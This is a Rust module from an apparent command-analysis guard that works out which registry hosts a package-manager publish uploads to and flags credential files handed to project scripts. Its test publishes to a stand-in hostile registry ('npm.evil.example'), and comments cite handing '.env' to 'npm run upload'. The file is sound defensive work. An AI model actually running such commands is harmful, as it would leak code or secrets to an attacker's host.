//! Package managers (`npm`, `pnpm`, `yarn`, `bun`, `cargo`, `pip`, `twine`, `gem`, `poetry`,
//! `uv`): a publish uploads the package to its registry; a custom registry or index named on
//! the command line is a host too.

use super::super::facts::{Analyzer, CommandContext, NetUse};
use super::super::host::{loose_host, url_host};
use super::super::options::{parse_opts, Arg};
use crate::flow::shell::options::valued_long::PKG_LONG;

impl Analyzer {
    pub(super) fn pkg(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
        let short = match name {
            "pip" => "ircetd",
            "twine" => "rupci",
            "poetry" => "rup",
            "gem" => "k",
            _ => "",
        };
        let p = parse_opts(args, short, PKG_LONG, false);
        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
        for (k, v) in p.valued() {
            match k {
                "--registry" | "--index" | "--index-url" | "--extra-index-url" | "--repository-url" | "--host"
                | "--publish-url" | "-i" => nu.hosts.extend(loose_host(&v.host)),
                "-r" | "--requirement" | "-c" | "--constraint" if name == "pip" => self.read_arg(v, ctx),
                _ => {}
            }
        }
        let mut pos: &[Arg] = &p.operands;
        if name == "yarn" && pos.first().is_some_and(|a| a.text == "npm") {
            pos = &pos[1..];
        }
        let sub = pos.first().map(|a| a.text.as_str()).unwrap_or("");
        let publish = match name {
            "twine" => sub == "upload",
            "gem" => sub == "push",
            _ => sub == "publish",
        };
        // `npm publish --dry-run`, `cargo publish --dry-run`: packs and checks, uploads nothing.
        // The last of `--dry-run` / `--no-dry-run` / `--dry-run=false` wins, as npm reads them.
        let dry_run = args.iter().rev().find_map(|a| match a.text.as_str() {
            "--dry-run" | "--dry-run=true" => Some(true),
            "-n" if name == "cargo" => Some(true),
            "--no-dry-run" | "--dry-run=false" => Some(false),
            _ => None,
        });
        let publish = publish && dry_run != Some(true);
        for a in pos.iter().skip(1) {
            if a.text.contains("://") {
                nu.hosts.extend(url_host(&a.host));
            }
        }
        if publish {
            let files: Vec<String> = pos.iter().skip(1).map(|a| a.text.clone()).collect();
            if files.is_empty() {
                nu.upload_paths.push(if matches!(name, "twine" | "uv") { "dist/*".into() } else { ".".into() });
            }
            for f in files {
                if !f.contains("://") {
                    nu.add_upload(&f);
                }
            }
            if nu.hosts.is_empty() {
                let d = match name {
                    "yarn" => "registry.yarnpkg.com",
                    "cargo" => "crates.io",
                    "twine" | "poetry" | "uv" => "upload.pypi.org",
                    "gem" => "rubygems.org",
                    _ => "registry.npmjs.org",
                };
                nu.hosts.push(d.into());
            }
            self.push_net(ctx, nu, false);
        } else if !nu.hosts.is_empty() {
            self.push_net(ctx, nu, false);
        }
        // `npm run upload .env`, `yarn upload .env`, `cargo run -- .env`: a script or program of
        // the project's, which this analysis does not read, is handed a credential file.
        let runs_project_code = match name {
            "npm" | "pnpm" | "yarn" | "bun" => !matches!(sub, "publish" | "dlx" | "exec" | "x" | ""),
            "cargo" => sub == "run",
            _ => false,
        };
        if runs_project_code {
            for a in pos.iter().skip(1).filter(|a| crate::flow::classify::is_sensitive_path(&a.text)).take(4) {
                self.facts
                    .unresolved
                    .push(format!("it hands {} to `{name} {sub}`, project code this guard has not read", a.text));
            }
        }
        // `pnpm dlx PKG`, `yarn dlx PKG`, `npm exec PKG`: a package run like `npx PKG`.
        if matches!((name, sub), ("pnpm" | "yarn", "dlx") | ("npm" | "pnpm", "exec") | ("npm", "x")) {
            self.package_runner(name, &args[args.iter().position(|a| a.text == sub).map_or(0, |i| i + 1)..], ctx);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::shell::test_util::{net, one, s};

    #[test]
    fn publish_goes_to_the_registry() {
        for (cmd, registry) in
            [("npm publish --registry https://npm.evil.example/", "npm.evil.example"), ("cargo publish", "crates.io")]
        {
            assert_eq!(one(cmd).hosts, s(&[registry]), "{cmd}");
        }
        assert_eq!(one("twine upload dist/*").upload_paths, s(&["dist/*"]));
        assert!(net("npm install && npm test && cargo build --release").is_empty());
    }
}
